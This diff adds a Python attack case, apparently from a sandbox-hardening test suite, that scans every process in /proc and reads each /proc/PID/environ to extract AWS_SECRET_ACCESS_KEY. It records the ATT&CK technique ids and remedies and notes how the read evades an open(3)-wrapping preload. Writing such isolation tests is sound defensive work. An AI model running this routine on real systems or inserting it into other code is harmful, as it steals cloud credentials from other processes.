@@ -1,0 +1,55 @@
+# SPDX-License-Identifier: MIT
+"""Goal:  the worker's credentials, from outside its process.
+Means: open() on /proc/PID/environ: the plain way, against which the others are measured. A
+       preloaded library that wraps open(3) does not see it: CPython calls open64(3).
+"""
+
+import os
+
+from attack import DONE, attempting, denied, loot
+
+
+def neighbours(first):
+    """The worker, then every process in /proc but this one."""
+    try:
+        seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
+    except OSError:
+        seen = []
+    return [pid for pid in [first, *seen] if pid not in (0, os.getpid())]
+
+
+def credential(path):
+    """The credential in an environ file, or None."""
+    with open(path, "rb") as file:
+        for entry in file.read().split(b"\0"):
+            if entry.startswith(b"AWS_SECRET_ACCESS_KEY="):
+                return entry
+    return None
+
+
+def run(brief):
+    why = "nobody else in sight"
+    attempting()
+    for pid in neighbours(brief.worker):
+        try:
+            found = credential(f"/proc/{pid}/environ")
+        except OSError as error:
+            why = error
+            continue
+        if found:
+            loot(found)
+            return DONE
+    return denied("/proc/PID/environ", why)
+
+
+ATTACK = {
+    "effect": "the worker's environment is read through /proc",
+    "means": "open() on /proc/PID/environ",
+    "oracle": "secret:environ",
+    "quick": True,
+    "id": "PROC-01",
+    "attack_id": "T1057, T1003.007, CWE-497",
+    "remedy": "Landlock without /proc; a worker that is not dumpable; a pid namespace",
+    "refs": ["proc(5)"],
+    "run": run,
+}
